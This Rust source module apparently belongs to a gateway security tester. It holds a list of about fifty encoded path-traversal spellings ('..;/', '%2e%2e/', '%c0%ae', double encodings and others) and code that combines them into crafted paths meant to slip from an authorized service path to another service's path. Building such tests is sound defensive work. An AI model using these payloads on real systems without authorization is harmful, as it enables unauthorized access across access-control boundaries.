//! Targets that lead by `..` from a path that a token opens to another path.

use super::{Paths, Target, TokenOf};

/// Spellings of one step up, each of which some server accepts.
const STEPS: &[&str] = &[
    "../",
    "..;/",
    "..;a=b/",
    "..%2f",
    "..%2F",
    "..%5c",
    "..\\",
    "%2e%2e/",
    "%2E%2E/",
    ".%2e/",
    "%2e./",
    "%2e%2e%2f",
    "%2e%2e%5c",
    "%252e%252e/",
    "%252e%252e%252f",
    "..%252f",
    "..%255c",
    "..//",
    ".//../",
    "./../",
    "..%00/",
    "..%0d/",
    "..%09/",
    "..%20/",
    "..%23/",
    "..%3f/",
    "..%3b/",
    "%2e%2e;/",
    "..%c0%af",
    "%c0%ae%c0%ae/",
    "..%ef%bc%8f",
    "%ef%bc%8e%ef%bc%8e/",
    "%u002e%u002e/",
    "..%u2215",
    "...//",
    "..././",
    "....//",
    ".../",
    ". ./",
    "..;//",
    "a/../../",
    "a;/..;/..;/",
    "%5c../",
    "\\..\\",
    "%2f../",
    "/../",
    "//..//",
    "?/../",
    "#/../",
    ";/../",
    "%3b/../",
];

pub(super) fn all(paths: &Paths) -> Vec<Target> {
    let services = || {
        paths
            .thoroughly
            .iter()
            .filter_map(|base| Some((*base, paths.gateway.get(*base)?)))
    };
    let everywhere: Vec<&String> = services()
        .map(|(_, path)| path)
        .chain(&paths.service)
        .collect();
    let each = services();
    each.flat_map(|(base, from)| {
        let others = everywhere.iter().filter(move |to| **to != from);
        others.flat_map(move |to| {
            // A path of a service that the gateway rewrites. A default route may pass it.
            let straight = Target::new(
                base,
                TokenOf::Base,
                &format!("straight to {to}"),
                to.as_bytes().to_vec(),
            );
            std::iter::once(straight).chain(
                STEPS
                    .iter()
                    .flat_map(move |step| crossings(base, from, to, step)),
            )
        })
    })
    .collect()
}

/// Targets with as many steps as lead to the root and with one more, from the path, and one from
/// its folder.
fn crossings(base: usize, from: &str, to: &str, step: &str) -> Vec<Target> {
    let depth = from.matches('/').count();
    let to = to.strip_prefix('/').unwrap_or(to);
    let folder = from.rsplit_once('/').map_or("", |(folder, _)| folder);
    let what = format!("{step:?} from {from} to /{to}");
    let target = |start: &str, steps: usize| {
        Target::new(
            base,
            TokenOf::Base,
            &what,
            format!("{start}/{}{to}", step.repeat(steps)).into_bytes(),
        )
    };
    vec![
        target(from, depth),
        target(from, depth + 1),
        target(folder, depth.saturating_sub(1).max(1)),
    ]
}
